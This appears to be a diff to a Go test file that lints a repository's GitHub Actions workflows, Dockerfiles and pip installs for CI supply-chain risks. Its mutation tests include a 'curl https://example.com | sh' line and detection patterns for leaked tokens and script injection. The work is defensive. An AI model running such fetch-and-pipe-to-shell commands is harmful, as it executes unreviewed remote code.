@@ -80,6 +80,8 @@ type workflow struct {
 	Jobs        map[string]struct {
 		Permissions map[string]string `json:"permissions"`
 		Environment string            `json:"environment"`
+		If          string            `json:"if"`
+		RunsOn      any               `json:"runs-on"`
 		Timeout     int               `json:"timeout-minutes"`
 		Steps       []struct {
 			Uses string         `json:"uses"`
@@ -108,10 +110,28 @@ func judgeWorkflow(text string) []string {
 	if strings.Contains(text, "pull_request_target") {
 		out = append(out, "somebody else's code runs with its rights")
 	}
+	for _, line := range strings.Split(text, "\n") {
+		switch line = strings.TrimSpace(line); {
+		case strings.HasPrefix(line, "#"):
+		case strings.Contains(line, "trivy image") && !strings.Contains(line, `cd "$apart" && trivy image --config trivy.yaml --ignorefile ignored --secret-config secret.yaml`),
+			strings.Contains(line, "gitleaks \"$what\"") && !strings.Contains(line, `--config "$RUNNER_TEMP/gitleaks.toml"`),
+			strings.HasPrefix(line, "--gitleaks-ignore-path") && !strings.Contains(line, "--ignore-gitleaks-allow"):
+			out = append(out, "lets the repository say what a scanner does not see")
+		case strings.Contains(line, "cosign sign") && strings.Contains(line, "--key") && !strings.Contains(line, "--signing-config signing.json"):
+			out = append(out, "writes names into a public log")
+		}
+	}
+	if strings.Contains(text, "actions/runs/$RUN") && strings.Count(text, "git merge-base --is-ancestor") != strings.Count(text, `"repos/$GITHUB_REPOSITORY/actions/runs/$RUN"`) {
+		out = append(out, "takes a run of a tag for one of the branch")
+	}
 	uses := 0
 	for name, j := range w.Jobs {
 		if len(j.Permissions) == 0 || j.Timeout == 0 {
 			out = append(out, name+" says nothing of its rights, or of how long it may take")
+		}
+		_, private := j.RunsOn.(map[string]any)
+		if strings.Contains(text, "pull_request: {}") && (private || j.Permissions["id-token"] != "") && j.If != "github.event.pull_request.head.repo.full_name == github.repository" {
+			out = append(out, name+" gives an identity or a machine to a copy of the repository")
 		}
 		for _, s := range j.Steps {
 			if strings.Contains(s.Run, "${{") {
@@ -162,13 +182,44 @@ func TestWorkflows(t *testing.T) {
 	if strings.Contains(text, "id-token") || strings.Contains(text, "secrets.") {
 		t.Error("what builds has an identity")
 	}
+	for _, one := range []struct{ what, name, from, to, want string }{
+		{"a guard that always holds", "estate", "github.event.pull_request.head.repo.full_name ==", "github.repository ==", "to a copy of the repository"},
+		{"trivy reads the repository", "images", `(cd "$apart" && trivy image --config trivy.yaml`, "(trivy image", "what a scanner does not see"},
+		{"gitleaks reads the repository", "images", ` --config "$RUNNER_TEMP/gitleaks.toml"`, "", "what a scanner does not see"},
+		{"lines allow themselves", "images", " --ignore-gitleaks-allow", "", "what a scanner does not see"},
+		{"a release in a public log", "clusters", " --signing-config signing.json", "", "into a public log"},
+		{"a tag called main", "release", `git merge-base --is-ancestor "$(jq --raw-output .head_sha run.json)" refs/remotes/origin/main`, "true", "a run of a tag"},
+	} {
+		text := files[".github/workflows/"+one.name+".yml"]
+		changed := strings.Replace(text, one.from, one.to, 1)
+		if changed == text {
+			t.Errorf("%s: %q is not in it", one.what, one.from)
+		}
+		if wrong := strings.Join(judgeWorkflow(changed), "; "); !strings.Contains(wrong, one.want) {
+			t.Errorf("%s: want %q, said is %q", one.what, one.want, wrong)
+		}
+	}
 	release := files[".github/workflows/release.yml"]
+	if judged, published, _ := strings.Cut(release, "\n  publish:\n"); !strings.Contains(judged, "scan --input") || !strings.Contains(published, "needs: judge\n") || strings.Contains(published, `"$built/scan.json"`) {
+		t.Error("what is published is what a build said of itself")
+	}
+	for at, text := range files {
+		if strings.HasSuffix(at, "/Dockerfile") && strings.Contains(text, "COPY --chown=0:0 addons/ ") {
+			t.Errorf("%s lays whatever is in a folder over Odoo's own", at)
+		}
+		if strings.Contains(text, "pip install") && strings.Count(text, "pip install") != strings.Count(text, "--require-hashes --no-deps --no-compile --only-binary :all:")+strings.Count(text, "--no-build-isolation") {
+			t.Errorf("%s lets what compiles be fetched by no hash", at)
+		}
+		if strings.Contains(text, "uv pip compile") && !strings.Contains(text, "--no-config") {
+			t.Errorf("%s lets the repository say where packages are from", at)
+		}
+	}
 	for _, one := range []struct{ what, from, to, want string }{
 		{"an action by its tag", "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "actions/checkout@v7", "which another may be tomorrow"},
 		{"rights for all", "permissions: {}", "permissions: {contents: write}", "may do something in every job"},
 		{"a value in a script", `case "$RUN" in`, `case "${{ github.event.inputs.run }}" in`, "puts a value into a script"},
 		{"nobody lets it", "    environment: release\n", "", "nobody let it"},
-		{"a token left behind", "          persist-credentials: false\n", "          fetch-depth: 1\n", "leaves its token"},
+		{"a token left behind", "          fetch-depth: 0\n          persist-credentials: false\n", "          fetch-depth: 0\n", "leaves its token"},
 		{"what is fetched is run", "            cosign sign ", "            curl https://example.com | sh\n            cosign sign ", "runs what it fetches unseen"},
 		{"somebody else's code", "  workflow_dispatch:", "  pull_request_target:\n  workflow_dispatch:", "somebody else's code"},
 	} {
